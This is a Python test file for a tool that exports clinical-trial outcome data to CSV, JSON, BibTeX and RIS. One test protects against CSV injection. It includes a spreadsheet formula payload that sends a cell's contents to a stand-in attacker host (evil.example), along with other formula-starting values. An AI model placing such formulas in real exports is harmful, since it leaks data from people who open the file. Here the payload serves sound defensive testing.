"""The flat export and the bibliography."""

from __future__ import annotations

import csv
import io
import json

from evidence import cite, export
from evidence.__main__ import main

REQUIRED = {
    "source_id",
    "doi",
    "reported_in",
    "cohort_id",
    "cohort_label",
    "setting",
    "treatment",
    "arm",
    "subgroup",
    "endpoint",
    "value",
    "unit",
    "not_reached",
    "ci_low",
    "ci_high",
    "ci_method",
    "p_value",
    "n",
    "events",
    "timepoint_months",
    "followup_months",
    "location",
    "quote",
    "verified_from",
    "conflicts_with",
    "note",
}


def test_export_has_every_required_field(base) -> None:
    rows = export.rows(base)
    assert len(rows) == len(base.outcomes)
    assert set(rows[0]) >= REQUIRED
    assert set(export.EXPORT_FIELDS) == set(rows[0])


def test_second_hand_figures_point_at_the_seed(base) -> None:
    rows = {row["outcome_id"]: row for row in export.rows(base)}
    qualls = [row for row in rows.values() if row["source_id"] == "qualls-2023"]
    assert qualls
    assert {row["reported_in"] for row in qualls} == {"10.1002/hon.70167"}


def test_json_and_csv_round_trip(base) -> None:
    rows = export.rows(base)
    assert json.loads(export.to_json(rows)) == json.loads(json.dumps(rows))
    parsed = list(csv.DictReader(io.StringIO(export.to_csv(rows))))
    assert len(parsed) == len(rows)
    assert parsed[0]["outcome_id"] == rows[0]["outcome_id"]


def test_cli_export_and_validate(capsys) -> None:
    assert main(["validate"]) == 0
    assert "valid" in capsys.readouterr().out
    assert main(["export", "--format", "json"]) == 0
    assert isinstance(json.loads(capsys.readouterr().out), list)


def test_bibliography_formats(base) -> None:
    bibtex = cite.bibliography(base, "bibtex")
    ris = cite.bibliography(base, "ris")
    assert bibtex.count("@") == len(base.sources)
    assert "doi = {10.1002/hon.70167}" in bibtex
    assert ris.count("ER  - ") == len(base.sources)
    assert "DO  - 10.1182/bloodadvances.2024013726" in ris


def test_each_row_says_what_its_figure_measures_and_rests_on() -> None:
    """On the fixture base: a DoR2 with no denominator is 'n not given', never the cohort's 50;
    a median beyond its follow-up is immature; whose effect, from when and the CAR-T exposure
    are columns."""
    from tests.sequencing.fixture_base import FIXTURE

    by_id = {row["outcome_id"]: row for row in export.rows(FIXTURE)}
    dor2 = by_id["post-dor2"]
    assert (dor2["n"], dor2["n_basis"]) == (None, "not given")
    assert (dor2["measured"], dor2["time_origin"], dor2["cart_exposure"]) == (
        "cohort_treatment",
        "first_response",
        "all",
    )
    orr = by_id["tl-5y-orr"]
    assert (orr["n"], orr["n_basis"], orr["response_assessment"]) == (80, "patients", "best")
    assert by_id["tl-5y-pfs"]["immature"] is False
    late = by_id["post-pfs2-late"]  # 5.6 months on 4 months of follow-up
    assert (late["immature"], late["immature_why"], late["maturity_followup_months"]) == (
        True,
        "median",
        4.0,
    )
    assert set(export.EXPORT_FIELDS) >= {
        "measured",
        "time_origin",
        "response_assessment",
        "cart_exposure",
        "n_basis",
        "immature",
        "immature_why",
        "publication",
        "caveats",
    }


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base) -> None:
    # OWASP CSV injection: a text cell starting with = + - @ (or tab, CR) is a formula.
    row = export.rows(base)[0] | {
        "note": '=HYPERLINK("https://evil.example/?"&A1,"details")',
        "quote": "+1 patient",
        "subgroup": "-2 to 3",
        "arm": "@SUM(A1:A9)",
        "location": "\tTable 2",
        "cohort_label": "\r=1+1",
        "value": -0.5,
    }
    (parsed,) = list(csv.DictReader(io.StringIO(export.to_csv([row]), newline="")))
    assert parsed["note"] == "'" + row["note"]
    assert parsed["quote"] == "'+1 patient"
    assert parsed["subgroup"] == "'-2 to 3"
    assert parsed["arm"] == "'@SUM(A1:A9)"
    assert parsed["location"] == "'\tTable 2"
    assert parsed["cohort_label"] == "'\r=1+1"
    assert parsed["value"] == "-0.5"  # a number stays a number


def test_no_exported_text_cell_starts_like_a_formula(base) -> None:
    for parsed in csv.DictReader(io.StringIO(export.to_csv(export.rows(base)))):
        for name, cell in parsed.items():
            if cell.startswith(export.FORMULA_START):
                float(cell)  # only numbers may start with - or +
                assert name in ("value", "ci_low", "ci_high", "range_low", "range_high"), name
